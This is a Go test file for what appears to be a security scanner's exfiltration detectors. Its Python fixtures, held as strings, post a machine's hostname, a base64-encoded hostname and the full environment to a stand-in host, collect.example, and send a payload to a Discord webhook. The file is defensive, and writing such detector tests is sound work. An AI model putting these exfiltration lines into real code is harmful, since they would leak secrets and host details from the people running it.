package detectors

import (
	"testing"

	"github.com/nightjar-sec/nightjar/internal/types"
)

func TestNetworkExfilHostname(t *testing.T) {
	src := "import requests\nimport socket\n" +
		"requests.post(\"http://collect.example/c\", data=socket.gethostname())\n"
	fs := evalPy(t, NetworkExfil, src)
	if len(fs) != 1 {
		t.Fatalf("expected 1 finding, got %d", len(fs))
	}
	if fs[0].Severity != types.SevMed {
		t.Fatalf("expected medium severity, got %s", fs[0].Severity)
	}
}

func TestNetworkExfilEncodedIdentity(t *testing.T) {
	src := "import requests\nimport socket\nimport base64\n" +
		"requests.post(\"http://collect.example/c\", data=base64.b64encode(socket.gethostname().encode()))\n"
	fs := evalPy(t, NetworkExfil, src)
	if len(fs) != 1 {
		t.Fatalf("expected 1 finding, got %d", len(fs))
	}
	if fs[0].Severity != types.SevHigh {
		t.Fatalf("expected high severity, got %s", fs[0].Severity)
	}
}

func TestNetworkExfilEnvironmentPayload(t *testing.T) {
	src := "import requests\nimport os\n" +
		"info = os.environ.copy()\n" +
		"requests.post(\"http://collect.example/env\", json=info)\n"
	fs := evalPy(t, NetworkExfil, src)
	if len(fs) != 1 {
		t.Fatalf("expected 1 finding, got %d", len(fs))
	}
}

func TestNetworkExfilIgnoresPlainRequests(t *testing.T) {
	src := "import requests\nrequests.get(\"https://pypi.org/simple/\")\n"
	if fs := evalPy(t, NetworkExfil, src); len(fs) != 0 {
		t.Fatalf("expected no findings, got %+v", fs)
	}
}

func TestWebhookExfil(t *testing.T) {
	src := "import requests\n" +
		"requests.post(\"https://discord.com/api/webhooks/1/abc\", json=payload)\n"
	fs := evalPy(t, WebhookExfil, src)
	if len(fs) != 1 {
		t.Fatalf("expected 1 finding, got %d", len(fs))
	}
	if fs[0].Severity != types.SevHigh {
		t.Fatalf("expected high severity, got %s", fs[0].Severity)
	}
}

func TestWebhookExfilIgnoresOrdinaryHosts(t *testing.T) {
	src := "import requests\nrequests.post(\"https://api.example.com/v1\", json=payload)\n"
	if fs := evalPy(t, WebhookExfil, src); len(fs) != 0 {
		t.Fatalf("expected no findings, got %+v", fs)
	}
}
